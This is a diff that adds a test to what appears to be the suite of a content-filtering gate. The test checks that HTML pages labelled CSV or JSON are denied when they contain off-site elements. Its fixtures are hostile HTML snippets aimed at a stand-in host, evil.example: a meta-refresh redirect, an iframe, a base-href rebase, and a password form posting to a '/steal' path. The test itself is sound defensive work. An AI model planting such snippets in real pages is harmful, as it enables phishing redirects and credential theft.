@@ -77,4 +77,20 @@ describe('an html page declared text', () => {
         expect(verdict.why).toMatch(/content\.executable.*javascript:/);
       }
   });
+
+  // reading13 F9: under a text label no markdown renderer reads (csv, json), only the browser would read the page, for
+  // script alone; a page that navigates, frames, posts or rebases off-site there is a mismatch, not an allowed text
+  test.each([
+    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/x">'],
+    ['an iframe', '<iframe src="https://evil.example/"></iframe>'],
+    ['a password form', '<form action="https://evil.example/steal"><input type="password" name="p"></form>'],
+    ['a base', '<base href="https://evil.example/">'],
+  ])('a page holding %s declared text/csv or json is refused', async (_what, part) => {
+    const page = `<!DOCTYPE html>\n<html><head><title>Report</title></head><body>${part}<p>report</p></body></html>\n`;
+    for (const mimeType of ['text/csv', 'application/json'])
+      for (const uri of ['guide://docs/report.html', 'guide://docs/report']) {
+        const verdict = await decideBody(gate, uri, mimeType, { text: page });
+        expect(verdict.effect, `${uri} ${mimeType}`).toBe('deny');
+      }
+  });
 });
